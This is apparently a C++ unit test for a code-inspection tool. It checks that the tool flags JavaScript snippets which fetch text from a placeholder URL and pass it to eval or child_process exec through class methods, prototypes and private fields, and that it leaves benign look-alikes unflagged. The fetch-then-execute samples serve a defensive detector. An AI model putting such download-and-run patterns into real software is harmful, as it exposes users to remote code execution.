// What flows through the methods of classes and objects.
#include <gtest/gtest.h>

#include "inspect/testing.h"

namespace cordon::inspect {
namespace {

bool runs(const std::string& code) {
  return testing::has(
      testing::installing("const cp = require('child_process'), u = 'https://files.example.test/p';\n" + code).peek(),
      FlagKind::download_and_run);
}

TEST(CodeMethods, ThroughThis) {
  for (const char* const code :
       {"class A { go() { fetch(u).then((r) => r.text()).then((t) => this.run(t)); } run(t) { eval(t); } }",
        "class A { run(t) { eval(t); } go() { fetch(u).then((r) => r.text()).then((t) => this.run(t)); } }",
        "class A { async grab() { return (await fetch(u)).text(); } async go() { eval(await this.grab()); } }",
        "const A = class { go() { fetch(u).then((r) => r.text()).then((t) => this.run(t)); } run(t) { eval(t); } };",
        "class B { run(t) { eval(t); } } class A extends B { go() { fetch(u).then((r) => r.text()).then((t) => "
        "this.run(t)); } }",
        "function A() {} A.prototype.run = function (t) { eval(t); }; A.prototype.go = function () { "
        "fetch(u).then((r) => r.text()).then((t) => this.run(t)); };",
        "const o = { run(t) { eval(t); }, go() { fetch(u).then((r) => r.text()).then((t) => this.run(t)); } };",
        "const o = { run: function (t) { eval(t); }, go() { fetch(u).then((r) => r.text()).then((t) => o.run(t)); }, "
        "x(t) { eval(t); }, y() { fetch(u).then((r) => r.text()).then((t) => this.x(t)); } };",
        "class A { constructor() { this.cp = cp; } go() { fetch(u).then((r) => r.text()).then((t) => "
        "this.cp.exec(t)); } }",
        "class A { run = (t) => eval(t); go() { fetch(u).then((r) => r.text()).then((t) => this.run(t)); } }",
        "class A { #run(t) { eval(t); } go() { fetch(u).then((r) => r.text()).then((t) => this.#run(t)); } }",
        "class A { static run(t) { eval(t); } } fetch(u).then((r) => r.text()).then((t) => A.run(t));",
        "class A { constructor() { this.t = ''; } get() { fetch(u).then((r) => r.text()).then((t) => { this.t = t; }); "
        "} run() { eval(this.t); } }"})
    EXPECT_TRUE(runs(code)) << code;
  for (const char* const code :
       {"class A { run(t) { eval(t); } } class B { go() { fetch(u).then((r) => r.text()).then((t) => this.run(t)); } "
        "run(t) { console.log(t); } }",
        "class B { go() { fetch(u).then((r) => r.text()).then((t) => this.run(t)); } run(t) { console.log(t); } } "
        "class A { run(t) { eval(t); } }",
        "class A { async grab() { return (await fetch(u)).text(); } async go() { JSON.parse(await this.grab()); } }",
        "class A { run(t) { eval(t); } go() { this.run('1'); fetch(u); } }"})
    EXPECT_FALSE(runs(code)) << code;
}

}  // namespace
}  // namespace cordon::inspect
